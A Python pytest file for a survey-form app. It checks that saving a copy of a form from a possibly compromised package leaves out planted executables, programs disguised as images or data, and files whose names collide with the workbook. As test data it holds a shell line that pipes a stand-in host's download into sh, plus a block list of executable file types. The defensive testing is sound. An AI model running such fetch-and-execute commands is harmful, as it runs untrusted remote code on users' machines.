"""*Save a copy…* (File › Forms…) of a form a hostile package brought.

The copy writes the form's workbook where the supervisor chose and the form's attached
files (``form_files``: choice lists, media) beside it, under their own names. A package
names those files and gives their bytes: a compromised laptop stores a form with any
files it likes (as a Central download stores every file of a form's manifest), and the
supervisor's merge takes them with the form. Names that are no plain file name (a
separator, U+202E, ``CON``) are refused already (``test_form_add``). Before this:

- a file named as the copy itself (``cso.xlsx``, which *Save a copy…* offers) replaced
  the workbook just written: the supervisor took another form to ODK or Kobo;
- two files one on Windows and macOS (``Logo.png``, ``logo.png``) left one of them;
- ``setup.exe``, ``desktop.ini``, files the form never reads nor shows, were planted
  beside the workbook;
- then left out without a word: the supervisor took a form to ODK without a file she
  thought it had;
- ``setup.exe``, ``x.lnk``, ``x.desktop`` the form shows as an image were written
  beside the workbook, a double click from running.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from merge_devices import Device
from xlsform import write_xlsform

from fieldapp.core.form_add import COPIED_EXTENSIONS, copy_name, said_copied, write_form_copy
from fieldapp.core.forms.loader import load_form_bytes
from fieldapp.core.merge import merge_database
from fieldapp.core.messages import FieldappError

STREETS = b"name,label\nnorte,Norte\n"
LOGO = b"\x89PNG\r\n\x1a\n logo"


def _merged(tmp_path: Path, images: list[str], files: dict[str, bytes]) -> tuple[Device, str]:
    """The supervisor, after merging a laptop that stored the form ``cso`` (a street list
    read from a file, a note showing each of ``images``) with ``files`` attached."""
    survey = [{"type": "select_one_from_file streets.csv", "name": "street", "label": "Calle"}]
    survey += [
        {"type": "note", "name": f"n{n}", "label": "Logo", "image": image}
        for n, image in enumerate(images)
    ]
    settings = {"form_id": "cso", "version": "1", "form_title": "Sociedad civil"}
    workbook = write_xlsform(tmp_path / "cso.xlsx", survey, settings=settings)
    content = workbook.read_bytes()
    form = load_form_bytes(content, "cso.xlsx", files={"streets.csv": STREETS})
    laptop = Device(tmp_path / "laptop.db", "ana")
    laptop.store.forms.add_loaded(form, content, "cso.xlsx", {"streets.csv": STREETS, **files})
    laptop.close()
    supervisor = Device(tmp_path / "supervisor.db", "sup")
    merge_database(supervisor.store, laptop.path)
    (record,) = supervisor.store.forms.records()
    return supervisor, record.sha256


def test_files_the_form_never_reads_nor_shows_are_not_written(tmp_path: Path) -> None:
    planted = {"setup.exe": b"MZ owned", "desktop.ini": b"[.ShellClassInfo]", "cso.xlsx": b"PK"}
    images = ["logo.png", "mapa de la zona.png"]
    shown = {image: LOGO for image in images}
    supervisor, sha256 = _merged(tmp_path, images, {**shown, **planted})
    out = tmp_path / "out"
    out.mkdir()
    record = supervisor.store.forms.records()[0]
    target = out / copy_name(supervisor.store, record)
    copy = write_form_copy(supervisor.store, sha256, target)
    assert copy.files == ["logo.png", "mapa de la zona.png", "streets.csv"]
    assert sorted(p.name for p in out.iterdir()) == ["cso.xlsx", *copy.files]
    assert copy.path.read_bytes() == (tmp_path / "cso.xlsx").read_bytes()  # the form's own
    assert (out / "logo.png").read_bytes() == LOGO
    assert copy.left_out == sorted(planted)
    said = said_copied(copy, record, "en").splitlines()
    assert said[-1].startswith("Not written: cso.xlsx, desktop.ini, setup.exe.")
    supervisor.close()


GENUINE = {
    "logo.png": LOGO,
    "grito.mp3": b"ID3\x04\x00 a shout",
    "mapa.geojson": b'{"type": "FeatureCollection", "features": []}',
}
"""Files of the kinds their names say."""
PROGRAMS = [
    "setup.exe",
    "abrir.lnk",
    "run.bat",
    "salvapantallas.scr",
    "x.js",
    "x.vbs",
    "x.cmd",
    "x.ps1",
    "mapa.desktop",
    "Mapa.app",
    "mapa.command",
    "x.sh",
    "x.msi",
    "x.jar",
    "x.hta",
    "SETUP.EXE",
    "logo.png.exe",
]


def test_a_program_the_form_shows_as_an_image_is_not_written_and_is_named(
    tmp_path: Path,
) -> None:
    """A form may name any file in its image column, and a package gives its bytes: the
    copy wrote ``setup.exe`` beside the workbook because the form "shows" it."""
    programs = {image: b"MZ owned" for image in PROGRAMS}
    supervisor, sha256 = _merged(tmp_path, list(GENUINE) + PROGRAMS, {**GENUINE, **programs})
    out = tmp_path / "out"
    out.mkdir()
    record = supervisor.store.forms.records()[0]
    copy = write_form_copy(supervisor.store, sha256, out / "cso.xlsx")
    assert copy.files == ["grito.mp3", "logo.png", "mapa.geojson", "streets.csv"]
    assert sorted(p.name for p in out.iterdir()) == sorted(["cso.xlsx", *copy.files])
    assert copy.left_out == sorted(PROGRAMS)
    for language, words in (("en", "Not written: "), ("es", "No se escribieron: ")):
        line = said_copied(copy, record, language).splitlines()[-1]
        assert line.startswith(words), language
        more = " and 7 more" if language == "en" else " y 7 más"
        assert ", ".join(sorted(PROGRAMS)[:10]) + more + ". " in line, language
    supervisor.close()


WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
DISGUISED = {
    "logo.png": WINDOWS_PROGRAM,
    "foto.jpg": LINUX_PROGRAM,
    "grito.mp3": WINDOWS_PROGRAM,
    "video.mp4": SCRIPT,
    "zona.geojson": SCRIPT,
    "lista.csv": WINDOWS_PROGRAM,
    "datos.xml": "\ufeff#!/bin/sh\n".encode(),  # a byte-order mark first
    "tabla.csv": "año,ciudad\n".encode("latin-1"),  # not UTF-8: no form reads it
}
"""Programs and scripts named as the media and data files a form uses."""
TRUE_TO_NAME = {
    "bandera.jpg": b"\x89PNG\r\n\x1a\n a PNG saved as .jpg",  # still a picture
    "voz.m4a": b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00",
    "mapa.geojson": '\ufeff {"type": "FeatureCollection", "features": []}'.encode(),
    "sitios.csv": "nombre,etiqueta\nnorte,Año\n".encode(),
    "datos extra.xml": b"<?xml version='1.0'?><root/>",
}


def test_a_program_named_as_a_picture_sound_or_data_file_is_not_written_and_is_named(
    tmp_path: Path,
) -> None:
    """A package gives a form's files their bytes: a program named ``logo.png``, which
    the form shows as its logo, was written beside the workbook, its name hiding it."""
    files = {**DISGUISED, **TRUE_TO_NAME}
    supervisor, sha256 = _merged(tmp_path, sorted(files), files)
    out = tmp_path / "out"
    out.mkdir()
    record = supervisor.store.forms.records()[0]
    copy = write_form_copy(supervisor.store, sha256, out / "cso.xlsx")
    assert copy.files == sorted([*TRUE_TO_NAME, "streets.csv"])
    assert sorted(p.name for p in out.iterdir()) == sorted(["cso.xlsx", *copy.files])
    for name, content in TRUE_TO_NAME.items():
        assert (out / name).read_bytes() == content
    assert copy.left_out == sorted(DISGUISED)
    for language, words in (("en", "Not written: "), ("es", "No se escribieron: ")):
        line = said_copied(copy, record, language).splitlines()[-1]
        assert line.startswith(words + ", ".join(sorted(DISGUISED)) + "."), language
    supervisor.close()


def test_the_kinds_a_copy_writes_are_media_and_data_a_form_reads() -> None:
    assert {".png", ".jpg", ".mp3", ".mp4", ".csv", ".xml", ".geojson"} <= COPIED_EXTENSIONS
    assert not {name[name.rindex(".") :].lower() for name in PROGRAMS} & COPIED_EXTENSIONS


@pytest.mark.parametrize(
    ("images", "copy", "code", "why"),
    [
        (["cso.xml"], "cso.xml", "formdesk.file_is_copy", "named as the copy: it replaced it"),
        (["CSO.XML"], "cso.xml", "formdesk.file_is_copy", "the copy's name on Windows, macOS"),
        (["Logo.png", "logo.png"], "cso.xlsx", "formdesk.file_names_clash", "one file"),
    ],
)
def test_files_that_would_be_one_file_with_the_copy_or_each_other_are_refused(
    tmp_path: Path, images: list[str], copy: str, code: str, why: str
) -> None:
    files = {image: f"{image} {n}".encode() for n, image in enumerate(images)}
    supervisor, sha256 = _merged(tmp_path, images, files)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(FieldappError) as error:
        write_form_copy(supervisor.store, sha256, out / copy)
    assert error.value.code == code, why
    for language, words in (("en", "one file"), ("es", "un solo archivo")):
        said = error.value.text(language)
        assert words in said and images[-1] in said, why
    assert list(out.iterdir()) == [], why
    supervisor.close()
